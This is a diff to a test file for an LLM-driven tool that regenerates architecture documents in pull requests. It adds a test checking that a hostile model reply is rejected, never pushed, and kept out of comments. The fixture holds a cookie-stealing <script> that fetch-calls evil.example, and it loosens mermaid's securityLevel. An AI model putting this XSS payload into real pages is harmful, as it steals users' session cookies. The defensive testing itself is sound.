@@ -21,6 +21,11 @@ const KEY = 'sk-archdoc-test-0123456789';
 const NEW_REQUIREMENT = `${REQUIREMENTS}- **Audit**: every price change is kept for seven years.\n`;
 // What the model answers: the document plus one endpoint for the new requirement, wrapped in chat.
 const REGENERATED = VALID_DOC.replace(/(### Key Endpoints\n(?:- .*\n)+)/, '$1- `GET /v1/audit/prices` - Price change history\n');
+// Active content a hostile reply may carry (unsafe-content).
+const UNSAFE_REPLY = VALID_DOC.replace('## 2.', '<script>fetch("https://evil.example/?c="+document.cookie)</script>\n\n## 2.').replace(
+  /```mermaid\n/,
+  '```mermaid\n%%{init: {"securityLevel":"loose"}}%%\n',
+);
 
 describe('mode: regenerate', () => {
   it('proposes the regenerated document in the sticky comment, pushes it, and answers the next run from the stamp', async () => {
@@ -73,6 +78,25 @@ describe('mode: regenerate', () => {
     expect(run.outputs).toMatchObject({ changed: 'false', 'commit-sha': '' });
     expect(s.gh.fileAt('acme', 'shop', 'feature', DOC)).toBe(VALID_DOC);
     expect(s.comments(pr)[0].body).toMatch(/regeneration failed/i);
+  });
+
+  it('a reply carrying <script> and a securityLevel change is sent back each round and never pushed, even with unsafe-content off', async () => {
+    expect(UNSAFE_REPLY).toContain('<script>');
+    expect(UNSAFE_REPLY).toContain('securityLevel');
+    llm.reply({ text: UNSAFE_REPLY }, { text: UNSAFE_REPLY });
+    const pr = s.openPr({ [REQS]: NEW_REQUIREMENT, '.archdoc.yml': 'rules:\n  unsafe-content: off\n' });
+    const run = await s.run(pr, { mode: 'regenerate', 'llm-provider': 'openai', 'llm-base-url': llm.openaiBaseUrl, 'llm-model': 'test-model', 'llm-api-key': KEY, 'max-attempts': '2', push: 'true' });
+
+    expect(llm.requests).toHaveLength(2);
+    const repair = (llm.requests[1].body as { messages: { role: string; content: string }[] }).messages.at(-1)?.content ?? '';
+    expect(repair).toMatch(/unsafe-content: Raw `<script>` element/);
+    expect(repair).toMatch(/unsafe-content: mermaid configuration sets securityLevel to "loose"/);
+    expect(run.outputs).toMatchObject({ changed: 'false', 'commit-sha': '' });
+    expect(s.gh.fileAt('acme', 'shop', 'feature', DOC)).toBe(VALID_DOC);
+    expect(s.calls().filter((c) => c.includes('CommitFile') || c.includes('createCommit'))).toEqual([]);
+    const [comment] = s.comments(pr);
+    expect(comment.body).toMatch(/regeneration failed/i);
+    expect(comment.body).not.toContain('<script>');
   });
 });
 
